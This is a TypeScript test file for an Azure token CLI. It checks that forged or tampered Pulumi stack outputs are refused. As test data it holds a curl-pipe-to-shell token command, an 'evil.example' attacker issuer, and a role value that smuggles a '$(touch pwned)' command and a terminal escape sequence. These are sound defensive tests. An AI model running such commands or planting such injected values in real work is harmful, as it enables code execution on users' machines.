/**
 * Proves that outputs of any origin are believed for nothing that does not follow from their ids,
 * and that no API of Microsoft's own is asked for a token. az and Pulumi are scripted.
 */
import assert from "node:assert/strict";
import type { RunResult } from "../../cli/process/processRunner";
import { microsoftApi } from "../../components/rules/values/microsoftApis";
import { createMemoryIo } from "./support/memoryIo";
import { ANSWER, cli, outputs, READ_STACK } from "./support/scriptedCli";
import { ended, scriptedRunner } from "./support/scriptedRunner";
import { run } from "../../cli/main";

const refused = (text: string): RunResult => ended("", `ERROR: ${text}`, 1);
const { tokenCommand } = outputs;

describe("outputs of somebody else", () => {
  const forged = (clientId: string): unknown =>
    JSON.parse(JSON.stringify(outputs).replaceAll(outputs.clientId, clientId));

  for (const [name, id] of [
    ["Microsoft Graph", "00000003-0000-0000-c000-000000000000"],
    ["Azure Resource Manager", "797f4846-ba00-4fd7-ba43-dac1f8f63013"],
    ["Azure Key Vault", "cfa8b339-82a2-471a-a3c9-0fc0be7a4093"],
    ["Azure Storage", "e406a681-f3d4-42a8-90b6-c2b029497af1"],
    ["Azure DevOps", "499b84ac-1321-427f-aa17-267ca6975798"],
    ["Azure SQL Database", "022907d3-0f1b-48f7-badc-1ba6abab6d66"],
    ["the portal's directory pages", "74658136-14ec-4630-ad9b-26e160ff0fc6"],
    ["Privileged Identity Management", "01fc33a7-78ba-4d2f-a4b7-768e336e890e"],
    ["one of Microsoft's own APIs", "0000000f-0000-0000-c000-000000000000"],
    ["Azure CLI", "04b07795-8ddb-461a-bbee-02f9e1bf7b46"],
  ] as const) {
    it(`that name ${name} as their API are refused before az starts`, async () => {
      assert.deepEqual(await cli(["token"], { [READ_STACK]: ended(forged(id)) }), {
        exitCode: 1,
        stdout: "",
        stderr: [
          `error: The selected stack names "${id}" as its API, which is ${name}: no stack registers that, and no token is asked for. [outputs.reserved]`,
          "  Do not use these outputs; tell whoever gave them to you.",
          "",
        ].join("\n"),
        calls: [READ_STACK],
      });
    });
  }

  it("that say something else than follows from their ids are refused, each by name", async () => {
    const evil = {
      ...outputs,
      identifierUri: "https://graph.microsoft.com",
      scopes: ["https://graph.microsoft.com/.default"],
      tokenCommands: { ...outputs.tokenCommands, bash: "TOKEN=$(curl x | sh)" },
      expectedToken: { ...outputs.expectedToken, iss: "https://evil.example/", azp: "evil" },
      appSettings: {
        ...outputs.appSettings,
        "Settings:AzureAdConfiguration:Instance": "https://evil.example/",
      },
    };
    for (const command of ["token", "guide"]) {
      const { exitCode, stdout, stderr, calls } = await cli([command], {
        [READ_STACK]: ended(evil),
      });
      assert.deepEqual([exitCode, stdout, calls], [1, "", [READ_STACK]]);
      assert.deepEqual(
        [...stderr.matchAll(/^ {2}"(\S+)" is (?=.*: it must be )/gm)].map(([, key]) => key),
        [
          "tokenCommands.bash",
          "identifierUri",
          "scopes.0",
          "expectedToken.iss",
          "expectedToken.azp",
          "appSettings.Settings:AzureAdConfiguration:Instance",
        ],
      );
    }
  });

  it("that have more problems than anybody reads are refused by the first ones", async () => {
    const more = Object.fromEntries(Array.from({ length: 30_000 }, (_, at) => [`k${at}`, "x"]));
    const { stderr } = await cli(["token"], {
      [READ_STACK]: ended({ ...outputs, appSettings: { ...outputs.appSettings, ...more } }),
    });
    const lines = stderr.split("\n");
    assert.match(lines[0] ?? "", / 30000 problems: \[outputs\.incomplete\]$/);
    assert.equal(lines[51], "  and 29950 more");
  });

  it("that name a role which no registration can have are refused", async () => {
    const expectedToken = { ...outputs.expectedToken, roles: "x $(touch pwned)\u001b[2J" };
    const { exitCode, stderr, calls } = await cli(["token"], {
      [READ_STACK]: ended({ ...outputs, expectedToken }),
    });
    assert.deepEqual([exitCode, calls], [1, [READ_STACK]]);
    assert.match(stderr, /"expectedToken\.roles" is "x \$\(touch pwned\)\\u001b\[2J": it must /);
  });

  it("that say version 1 without that version's claims are refused, each by name", async () => {
    const { aud, azp, ...others } = outputs.expectedToken as unknown as Record<string, unknown>;
    const said = async (expectedToken: unknown): Promise<readonly (string | undefined)[]> => {
      const file = JSON.stringify({ ...outputs, expectedToken });
      const { exitCode, stdout, stderr, calls } = await cli(["token", "--outputs", "-"], {}, file);
      assert.deepEqual([exitCode, stdout, calls], [1, "", []]);
      return [...stderr.matchAll(/^ {2}"(\S+)" is /gm)].map(([, key]) => key);
    };
    const settings = "appSettings.Settings:AzureAdConfiguration:TokenValidationParameters";
    assert.deepEqual(await said({ ...others, aud, azp, ver: "1.0" }), [
      "expectedToken.audiences.0",
      "expectedToken.audiences.1",
      "expectedToken.iss",
      "expectedToken.appid",
      `${settings}:ValidAudiences:0`,
      `${settings}:ValidAudiences:1`,
      "expectedToken.aud",
      "expectedToken.azp",
    ]);
    assert.deepEqual(await said({ ...others, appid: azp, audiences: [aud], ver: "1.0" }), [
      "expectedToken.audiences.1",
      "expectedToken.iss",
      `${settings}:ValidAudiences:0`,
      `${settings}:ValidAudiences:1`,
    ]);
  });

  it("name a tenant that is none of the user's: that is said before the sign-in", async () => {
    const answers = {
      [tokenCommand]: refused("Please run 'az login' to setup account."),
      "az account list": ended([{ tenantId: "elsewhere" }]),
    };
    const result = await cli(["token", "--outputs", "-"], answers, JSON.stringify(outputs));
    assert.equal(
      result.stderr,
      [
        "error: Nobody is signed in to the Azure CLI. az has no account in its folder, or only Cloud Shell's, which covers no other APIs. [token.refused.not-signed-in]",
        `  You are not signed in to the tenant "${outputs.tenantId}", which the standard input names. Make sure that it is yours before you sign in there.`,
        "  Sign in to the stack's tenant, for this API; no subscription is needed.",
        `  ${outputs.loginCommand}`,
        "  Done already? az looks in another folder than the sign-in went to: compare AZURE_CONFIG_DIR, HOME and the user (sudo, container, service).",
        "",
      ].join("\n"),
    );
  });

  it("get their resource named before a token is shown on a terminal", async () => {
    const io = {
      ...createMemoryIo({ now: () => new Date("2026-06-01T12:00:00Z") }),
      isResultOnTerminal: true,
    };
    const { run: scripted } = scriptedRunner({
      [READ_STACK]: ended(outputs),
      [tokenCommand]: ANSWER,
    });
    assert.equal(await run(["token"], { io, run: scripted }), 0);
    assert.match(
      io.stderr(),
      new RegExp(
        `\nIt opens the resource "${outputs.clientId}" of the tenant "${outputs.tenantId}"\\.\n$`,
      ),
    );
  });
});

describe("microsoftApi", () => {
  it("knows ids and URIs in every spelling, and nothing else", () => {
    assert.deepEqual(
      [
        "00000003-0000-0000-C000-000000000000",
        "api://00000003-0000-0000-c000-000000000000",
        "https://graph.microsoft.com/",
        "https://my-vault.vault.azure.net",
        "https://management.core.windows.net//.default",
        "00000003-0000-0000-c000-000000000000/User.Read",
        "https://graph.microsoft.com.",
        "https://dod-graph.microsoft.us",
        "https://management.core.usgovcloudapi.net/",
        "https://x.vault.azure.cn",
        "https://substrate.office.com",
        outputs.clientId,
        outputs.identifierUri,
        "https://graph.microsoft.com.evil.example",
        "https://notazure.com",
        "https://api.westeurope.cloudapp.azure.com",
        "https://api.cloudapp.chinacloudapi.cn",
        "https://api.azurewebsites.net",
        "",
      ].map(microsoftApi),
      [
        "Microsoft Graph",
        "Microsoft Graph",
        "Microsoft Graph",
        "Azure Key Vault",
        "Azure Resource Manager",
        "Microsoft Graph",
        "Microsoft Graph",
        "Microsoft Graph",
        ...Array.from({ length: 3 }, () => "one of Microsoft's own APIs"),
        ...Array.from({ length: 8 }, () => undefined),
      ],
    );
  });
});
